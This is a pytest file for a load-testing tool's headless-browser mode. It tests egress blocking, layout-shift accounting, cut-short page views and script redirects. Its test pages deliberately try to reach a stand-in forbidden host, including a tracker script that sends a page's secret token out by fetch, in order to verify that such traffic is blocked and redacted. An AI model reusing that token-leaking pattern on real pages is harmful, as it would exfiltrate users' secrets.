"""Browser users that cannot lie (issue 28), with Debian's real headless Chromium: traffic outside
`allowed_hosts` never leaves, layout shifts while the next page loads count, and a page view the run's
end cut short is no sample. Each test serves its own pages from a small server on loopback; the three tests of
traffic outside `allowed_hosts` read one run, a browser user each."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.support.project import Project, assert_no_traceback

pytestmark = pytest.mark.chromium

Route = Callable[[BaseHTTPRequestHandler], tuple[int, str, bytes]]  # -> status, content type, body


@contextmanager
def serve(routes: dict[str, Route]) -> Iterator[str]:
    """A threaded HTTP server on 127.0.0.1 answering `routes` by path (anything else: 200 `ok`)."""

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            route = routes.get(self.path.split("?", 1)[0])
            status, kind, body = route(self) if route else (200, "text/plain", b"ok")
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def html(body: str) -> Route:
    return lambda _: (200, "text/html", f"<!doctype html><html><body>{body}</body></html>".encode())


def run(project: Project, host: str, scenario: str, profile: str = "") -> tuple[int, dict[str, Any], str]:
    project.write("scenarios/s.yaml", scenario)
    project.write("profiles/p.yaml", f"scenario: ../scenarios/s.yaml\nhost: {host}\nmin_samples: 1\n{profile}")
    result = project.run("run", "p", "--out", "o", "--request-log", timeout=180)
    assert_no_traceback(result)
    return result.code, project.results("o"), result.out + result.err


# -- 1. traffic outside allowed_hosts never leaves -------------------------------------------------------------

LEAKY = """
<h1 id="leaky">leaky</h1>
<img src="{far}/img.gif">
<iframe src="{far}/frame"></iframe>
<button id="popup" onclick="window.open('{far}/popup')">popup</button>
<a id="ping" href="/next" ping="{far}/ping">next</a>
<script>
  try {{ new WebSocket('{ws}/ws'); }} catch (e) {{}}
  try {{ new EventSource('{far}/events'); }} catch (e) {{}}
  new Worker('/worker.js');
  addEventListener('pagehide', () => navigator.sendBeacon('{far}/beacon', 'bye'));
</script>
"""
LEAKY_SCENARIO = """
name: leaky
users:
  - {name: api, think_time: 1, requests: [{name: health, path: /health}]}
browsers:
  - name: visitor
    pages: 1
    think_time: 0.2
    journey:
      - {visit: /leaky, name: leaky}
      - {click: "#popup"}
      - {click: "#ping"}
      - {wait_for: "#next"}
"""


@contextmanager
def forbidden_host() -> Iterator[tuple[str, list[str]]]:
    """A listener on 127.0.0.2 that records every connection made to it (and answers nothing)."""
    listener = socket.create_server(("127.0.0.2", 0))
    listener.settimeout(0.2)
    reached: list[str] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, peer = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            conn.settimeout(1)
            try:
                reached.append(f"{peer}: {conn.recv(200)!r}")
            except OSError:
                reached.append(f"{peer}: (nothing)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.2:{listener.getsockname()[1]}", reached
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()


@contextmanager
def udp_listener() -> Iterator[tuple[str, list[str]]]:
    """A UDP socket on 127.0.0.2 that records every datagram sent to it."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.2", 0))
    udp.settimeout(0.2)
    received: list[str] = []
    stop = threading.Event()

    def receive() -> None:
        while not stop.is_set():
            try:
                data, peer = udp.recvfrom(2048)
            except TimeoutError:
                continue
            except OSError:
                return
            received.append(f"{peer}: {data[:20]!r}")

    thread = threading.Thread(target=receive, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.2:{udp.getsockname()[1]}", received
    finally:
        stop.set()
        thread.join(timeout=5)
        udp.close()


RTC = """
<script>
  // STUN and TURN over UDP to the forbidden host: datagrams a SOCKS rail cannot carry nor refuse
  const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{far}'}},
    {{urls: 'turn:{far}?transport=udp', username: 'u', credential: 'c'}}]}});
  pc.createDataChannel('x');
  pc.createOffer().then(o => pc.setLocalDescription(o)).then(() => fetch('/offered'));
</script>
"""
TRACKER = """
<p id="acct">account</p>
<script>
  // an analytics call that carries the page's own query (with its token), cut at 300 characters in the report
  const token = new URLSearchParams(location.search).get('token');
  const base = 'http://{far}/collect?p=';
  fetch(base + 'p'.repeat(290 - base.length - 3) + '&t=' + token, {{mode: 'no-cors'}}).catch(() => {{}});
</script>
"""
# one run, three browser users, each a page trying its way out once (one journey each, then the run ends): every
# kind of request (visitor), WebRTC's UDP (caller), a tracker sent the page's secret (account)
GUARDED_SCENARIO = LEAKY_SCENARIO.replace("name: leaky\n", "name: guarded\n") + """\
  - name: caller
    pages: 1
    think_time: 3
    journey:
      - {visit: /rtc, name: rtc}
  - name: account
    pages: 1
    think_time: 3
    journey:
      - {visit: "/acct?token=${TOK}", name: acct}
"""
SECRET = "CANARYtok-9f3e1b7c2d"


@dataclass
class Guarded:
    code: int
    doc: dict[str, Any]
    out: str
    err: str
    far: str  # the TCP host outside allowed_hosts
    reached: list[str]  # connections it got
    received: list[str]  # datagrams the UDP host outside allowed_hosts got
    offered: list[str]  # the RTC page's offers made (its candidates were gathered)
    project: Project


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Guarded:
    project = Project(tmp_path_factory.mktemp("guarded"))
    offered: list[str] = []
    with forbidden_host() as (far, reached), udp_listener() as (udp_far, received):
        routes = {
            "/leaky": html(LEAKY.format(far=f"http://{far}", ws=f"ws://{far}")),
            "/next": html(f"<p id='next'>next</p><script>addEventListener('pagehide', () => "
                          f"navigator.sendBeacon('http://{far}/beacon', 'bye'));</script>"),
            "/worker.js": lambda _: (200, "text/javascript", f"fetch('http://{far}/worker')".encode()),
            "/rtc": html(RTC.format(far=udp_far)),
            "/offered": lambda h: _noted(offered, h.path),
            "/acct": html(TRACKER.format(far=far)),
        }
        with serve(routes) as host:
            project.write("scenarios/s.yaml", GUARDED_SCENARIO)
            project.write("profiles/p.yaml", f"scenario: ../scenarios/s.yaml\nhost: {host}\nmin_samples: 1\n"
                          "allowed_hosts: [127.0.0.1]\nsecrets: [TOK]\nload: {users: 1, iterations: 1}\n")
            result = project.run("run", "p", "--out", "o", timeout=180, env={"TOK": SECRET})
    assert_no_traceback(result)
    assert (project.root / "o" / "results.json").exists(), result.out + result.err
    return Guarded(result.code, project.results("o"), result.out, result.err, far, list(reached), list(received),
                   list(offered), project)


def _noted(seen: list[str], path: str) -> tuple[int, str, bytes]:
    seen.append(path)
    return 200, "text/plain", b"ok"


def _blocked(run: Guarded, page: str) -> list[dict[str, Any]]:
    return [b for b in run.doc["browser"]["blocked"] if b["page"] == page]


def test_no_request_reaches_a_host_outside_allowed_hosts_and_each_attempt_is_listed(guarded: Guarded) -> None:
    assert guarded.reached == [], guarded.reached  # not one connection, not even a handshake
    blocked, far = guarded.doc["browser"]["blocked"], guarded.far
    paths = {b["url"].split(far, 1)[1] for b in _blocked(guarded, "leaky") if far in b["url"]}
    # the image, the frame, the WebSocket handshake, the EventSource, the worker's fetch, the popup, the
    # link's ping and the beacon sent at pagehide: each listed, with the page it came from
    assert paths == {"/img.gif", "/frame", "/ws", "/events", "/worker", "/popup", "/ping", "/beacon"}, blocked
    # the only other page that sent a request outside: the account page's tracker
    assert {b["page"] for b in blocked} == {"leaky", "acct"}, blocked
    assert all("/collect?p=" in b["url"] for b in _blocked(guarded, "acct")), blocked
    assert guarded.doc["browser"]["failed_steps"] == 0, guarded.doc["browser"]["failures"]
    network = next(c for c in guarded.doc["checks"] if c["name"] == "browser network")
    assert network["verdict"] == "fail" and far in network["message"]
    assert guarded.code == 1, guarded.out + guarded.err


def test_webrtc_sends_no_udp_to_a_host_outside_allowed_hosts(guarded: Guarded) -> None:
    """A page's RTCPeerConnection gathers candidates from a STUN/TURN server on 127.0.0.2 (UDP): not one
    datagram leaves (WebRTC's non-proxied UDP is disabled in the profile every page context inherits)."""
    assert guarded.doc["browser"]["failed_steps"] == 0, guarded.doc["browser"]["failures"]
    assert guarded.offered, guarded.out + guarded.err  # the offer was made: candidates were gathered
    assert guarded.received == [], guarded.received


def test_a_secret_in_a_blocked_url_leaves_no_prefix_at_the_cut(guarded: Guarded) -> None:
    """A page visited with a declared secret in its query sends it to a tracker outside allowed_hosts: the
    blocked URL, cut at 300 characters right inside the secret, keeps neither the secret nor a prefix of it."""
    assert guarded.reached == [], guarded.reached
    assert any("/collect?p=ppp" in b["url"] for b in _blocked(guarded, "acct")), guarded.doc["browser"]  # exercised
    out = guarded.project.root / "o"
    names = sorted(p.name for p in out.iterdir() if p.is_file())
    for text, where in [(guarded.out, "stdout"), (guarded.err, "stderr")] + [
        ((out / n).read_text(), n) for n in names
    ]:
        assert "CANARY" not in text and "&t=C" not in text, where


# -- 2. layout shifts while the next page loads --------------------------------------------------------------

SHIFTING = """
<div id="top"></div>
<p style="font-size: 40px; line-height: 1.2">{text}</p>
<script>
  // The next page's request has reached the server: shift everything down while this page is still shown,
  // then say so once the shift is observed (the server holds the next page until then).
  fetch('/next-requested').then(() => {{
    new PerformanceObserver(() => setTimeout(() => fetch('/shifted'), 200)).observe({{type: 'layout-shift'}});
    document.getElementById('top').style.height = '400px';
  }});
</script>
"""
SHIFT_SCENARIO = """
name: shifts
users:
  - {name: api, think_time: 1, requests: [{name: health, path: /health}]}
browsers:
  - name: reader
    pages: 1
    think_time: 0
    journey:
      - {visit: /article, name: article}
      - {visit: /slow, name: slow}
thresholds:
  "browser_web_vital_cls{page:article}": ["max<0.1"]
"""


class NextPage:
    """The slow next page: while its request is held (at most 10 s, until the shown page says it shifted),
    the shown page's poll is answered, whichever of the two reached the server first."""

    def __init__(self) -> None:
        self.cond = threading.Condition()
        self.pending = 0  # next-page requests held
        self.shifted = 0

    def wait_requested(self, _: BaseHTTPRequestHandler) -> tuple[int, str, bytes]:
        with self.cond:
            self.cond.wait_for(lambda: self.pending > 0, timeout=30)
        return 200, "text/plain", b"go"

    def mark_shifted(self, _: BaseHTTPRequestHandler) -> tuple[int, str, bytes]:
        with self.cond:
            self.shifted += 1
            self.cond.notify_all()
        return 200, "text/plain", b"ok"

    def slow(self, _: BaseHTTPRequestHandler) -> tuple[int, str, bytes]:
        with self.cond:
            seen = self.shifted
            self.pending += 1
            self.cond.notify_all()
            self.cond.wait_for(lambda: self.shifted > seen, timeout=10)
            self.pending -= 1
        return 200, "text/html", b"<!doctype html><p>slow page</p>"


def test_layout_shifts_while_the_next_page_loads_count(project: Project) -> None:
    nxt = NextPage()
    routes = {
        "/article": html(SHIFTING.format(text="A paragraph that moves. " * 40)),
        "/next-requested": nxt.wait_requested,
        "/shifted": nxt.mark_shifted,
        "/slow": nxt.slow,
    }
    with serve(routes) as host:
        code, doc, out = run(project, host, SHIFT_SCENARIO, "load: {users: 1, iterations: 1}\n")
    assert nxt.shifted >= 1, "the article never shifted: the test did not exercise the case"
    cls = next(t for t in doc["thresholds"] if t["selector"] == "browser_web_vital_cls{page:article}")
    # the shift happened after the next navigation started, before it committed: it is the article's CLS
    assert cls["verdict"] == "fail" and cls["observed"] > 0.2, cls
    assert code == 1, out


# -- 3. a page view cut short by the run's end ---------------------------------------------------------------

CUT_SCENARIO = """
name: cut
users:
  - {name: api, think_time: 1, requests: [{name: health, path: /health}]}
browsers:
  - name: shopper
    pages: 2
    think_time: 60     # longer than the run: it ends between each page's visit and its wait_for
    journey:
      - {visit: /shop, name: home}
      - {wait_for: "#add-to-cart"}
thresholds:
  "browser_web_vital_lcp{page:home}": ["p(75)<2500"]
"""


def test_a_page_view_cut_short_by_the_runs_end_is_counted_apart_not_a_sample(project: Project) -> None:
    code, doc, out = run(project, "embedded", CUT_SCENARIO, "load: {users: 1, duration: 12s}\n")
    steps = [json.loads(line) for line in (project.root / "o" / "browser-steps.jsonl").read_text().splitlines()]
    visits = [s for s in steps if s["action"] == "visit" and s["error"] is None]
    assert visits and not [s for s in steps if s["action"] == "wait_for"], steps
    browser = doc["browser"]
    assert browser["views"] == 0 and browser["cut_short"] == len(visits), browser
    assert browser["pages"]["home"]["cut_short"] == len(visits)
    lcp = next(t for t in doc["thresholds"] if t["selector"] == "browser_web_vital_lcp{page:home}")
    assert lcp["verdict"] != "pass" and lcp["samples"] == 0, lcp
    note = next(c for c in doc["checks"] if c["name"] == "browser page views")
    assert f"{len(visits)} page views cut short" in note["message"]
    assert code != 0, out


# -- 4. a page only the site's own script opens (a redirect) ---------------------------------------------------

REDIRECT_SCENARIO = """
name: redirect
browsers:
  - name: reader
    pages: 1
    # after #arrived is in /new's DOM, a pause before the next visit: with none, /new was left before its first
    # paint in 7 of 22 runs here (a view left before it painted has no LCP, as the spec says: "no data")
    think_time: 0.5
    journey:
      - {visit: /old, name: old}
      - {wait_for: "#arrived"}   # /new, the page /old's script opened
      - {visit: /done, name: done}   # /new's view is final once the next page has loaded
thresholds:
  "browser_web_vital_lcp{page:/new}": ["p(75)<10000"]
"""


def test_a_page_only_a_script_opens_is_accepted_with_a_warning_and_measured(project: Project) -> None:
    """No visit names /new and the journey never clicks or types: only /old's script opens it. validate cannot
    know that, so it warns (a typo of a page's name is still refused: test_validate_refusals.py), and the run
    measures the redirected page under its path."""
    routes = {
        "/old": html("<p>moved</p><script>setTimeout(() => location.replace('/new'), 200)</script>"),
        "/new": html('<h1 id="arrived">the new page</h1>'),
        "/done": html("<p>done</p>"),
    }
    project.write("scenarios/s.yaml", REDIRECT_SCENARIO)
    project.write("profiles/p.yaml", "scenario: ../scenarios/s.yaml\nhost: http://127.0.0.1:9\nload: {iterations: 1}\n")
    checked = project.cli("validate")
    assert checked.code == 0, checked.out + checked.err
    assert ("warning: " in checked.err and "no visit step names a page '/new' and no journey clicks, types or "
            "presses: only a page's own script (a redirect) can open it") in checked.err, checked.err
    with serve(routes) as host:
        code, doc, out = run(project, host, REDIRECT_SCENARIO, "load: {iterations: 1}\n")
    assert "only a page's own script (a redirect) can open it" in out  # the run says it before its load too
    lcp = next(t for t in doc["thresholds"] if t["selector"] == "browser_web_vital_lcp{page:/new}")
    assert lcp["verdict"] == "pass" and lcp["samples"] == 1, lcp
    assert code == 0, out
